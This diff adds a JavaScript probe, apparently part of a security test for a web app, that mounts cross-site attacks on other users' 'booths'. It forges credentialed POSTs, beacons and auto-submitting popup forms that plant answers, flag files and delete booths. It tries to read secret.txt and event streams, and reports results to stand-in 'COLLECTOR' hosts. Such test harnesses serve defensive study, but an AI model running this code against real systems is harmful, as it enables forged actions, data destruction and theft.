@@ -1,0 +1,90 @@
+"use strict";
+// What a booth would do about the answers and the life of booths, its own too.
+const desk = "DESK", own = "meddling", booths = [own, "victim", "kept"];
+const tell = (subject, v) => fetch("COLLECTOR/" + subject + "?v=" + encodeURIComponent(v), { mode: "no-cors" });
+const form = { "Content-Type": "application/x-www-form-urlencoded" };
+const answer = "id=m1&question=1&document=1&part-0=%3Da";
+const acts = (booth) => [
+  ["b/" + booth + "/marks/answer", answer],
+  ["b/" + booth + "/marks/answer", '{"id":"m1","parts":{"p1":{"choices":["a"]}}}'],
+  ["b/" + booth + "/marks/note", "text=planted"],
+  ["b/" + booth + "/marks/flag", "target=secret.txt"],
+  ["b/" + booth + "/marks/ask", '{"title":"Hold me","parts":[{"id":"a","kind":"confirm"}]}'],
+  ["b/" + booth + "/marks/withdraw", "id=m1"],
+  ["b/" + booth + "/keep", "why=mine"],
+  ["b/" + booth + "/unkeep", ""],
+  ["b/" + booth + "/repair", ""],
+  ["b/" + booth + "/delete", ""],
+];
+const everything = [...booths.flatMap(acts), ["trash/TRASH/restore", ""], ["api/v1/trash/TRASH/restore", ""], ["api/v1/sweep", ""]];
+const pages = (booth) => ["", "marks", "view?f=secret.txt", "asks", "?download=1", "marks.json"].map((p) => desk + "b/" + booth + "/" + p);
+const readable = [...booths.flatMap(pages), ...booths.map((b) => desk + "b/" + b + "/secret.txt"), desk, desk + "trash", desk + "api/v1/booths", desk + "api/v1/trash", desk + "api/v1/booths/victim/explain"];
+const settled = (make) => new Promise((done) => {
+  const e = make();
+  e.onload = e.onerror = done;
+  setTimeout(done, 200); // a drawing has elements that never say so
+  document.documentElement.append(e);
+});
+const xhtml = (tag, more) => Object.assign(document.createElementNS("http://www.w3.org/1999/xhtml", tag), more);
+
+// Where is which document this runs in: each does all of it.
+const meddle = async (where) => {
+  await fetch("COLLECTOR-GATE/", { mode: "no-cors" }); // answers when the test has taken away the operator's own view
+  for (const [path, body] of everything) {
+    for (const headers of [form, { "Content-Type": "text/plain" }]) {
+      for (const mode of ["cors", "no-cors"]) {
+        await fetch(desk + path, { method: "POST", mode, headers, body, credentials: "include" }).catch(() => {});
+      }
+    }
+    navigator.sendBeacon(desk + path, new Blob([body], { type: form["Content-Type"] }));
+  }
+  let read = [];
+  for (const address of readable) {
+    for (const credentials of ["include", "omit"]) {
+      await fetch(address, { credentials }).then(async (r) => read.push(address + r.status + (await r.text()).slice(0, 40)), () => {});
+    }
+    await fetch(address, { mode: "no-cors", credentials: "include" }).then(async (r) => { if (await r.text()) read.push(address); }, () => {});
+  }
+  await tell("read-" + where, read);
+  let heard = [];
+  const stream = new EventSource(desk + "events", { withCredentials: true });
+  await new Promise((done) => {
+    for (const kind of ["open", "message", "change", "resync"]) stream.addEventListener(kind, () => { heard.push(kind); done(); });
+    stream.onerror = done;
+  });
+  stream.close();
+  await tell("events-" + where, heard);
+  for (const address of booths.flatMap(pages)) {
+    await settled(() => xhtml("img", { src: address }));
+    await settled(() => xhtml("script", { src: address }));
+    await settled(() => xhtml("link", { rel: "stylesheet", href: address }));
+    await settled(() => xhtml("iframe", { src: address }));
+    document.documentElement.append(xhtml("link", { rel: "prefetch", href: address }), xhtml("video", { src: address, preload: "auto" }), xhtml("object", { data: address }));
+  }
+  let frames = [];
+  for (const f of document.getElementsByTagName("iframe")) {
+    try { if (f.contentDocument.body.textContent) frames.push(f.src); } catch { /* as it should be */ }
+  }
+  await tell("frames-" + where, frames);
+  await tell("done-" + where, 1);
+};
+
+// A window of its own is no sandbox: there a form would post, and a page is whole.
+const meddleApart = async () => {
+  let hands = [];
+  for (const [path, body] of everything) {
+    const fields = [...new URLSearchParams(body)].map(([name, value]) => `<input name="${name}" value="${value.replace(/"/g, "&quot;")}">`);
+    const page = `<!doctype html><form method="post" action="${desk + path}">${fields.join("")}</form><script>document.forms[0].submit()</script>`;
+    const w = window.open("about:blank");
+    if (w) {
+      hands.push(path);
+      w.document.write(page);
+    }
+    window.open(URL.createObjectURL(new Blob([page], { type: "text/html" })));
+  }
+  for (const page of ["", "marks", "view?f=secret.txt"]) {
+    const w = window.open(desk + "b/popped/" + page);
+    if (w) hands.push(page);
+  }
+  await tell("hands", hands);
+};
